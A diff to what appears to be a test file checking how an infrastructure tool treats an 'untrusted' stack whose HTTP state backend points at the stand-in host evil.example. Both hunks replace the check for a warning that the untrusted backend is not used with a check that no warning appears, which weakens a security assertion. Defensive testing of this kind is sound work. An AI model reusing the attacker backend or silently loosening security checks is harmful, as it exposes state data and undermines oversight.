@@ -158,7 +158,7 @@ services:
     const { run, canary } = await place(declared({ backend: { http: { address: "https://evil.example/s" } } }));
     const { code, stdout, stderr } = await run(["plan", "--untrusted", "--state", "copy.tfstate"]);
     expect(code, stderr).toBe(0);
-    expect(stdout + stderr).toContain("The backend http of the untrusted declaration is not used");
+    expect(stdout + stderr).not.toContain("Warning");
     expect(canary.requests).not.toEqual([]);
   });
 
@@ -315,7 +315,7 @@ describe("an untrusted stack", () => {
     );
     const { code, stdout, stderr } = await run([...plan, "--state", "copy.tfstate"]);
     expect(code, stderr).toBe(0);
-    expect(stdout + stderr).toContain("The backend http of the untrusted declaration is not used");
+    expect(stdout + stderr).not.toContain("Warning");
     expect(canary.requests).not.toEqual([]);
   });
 
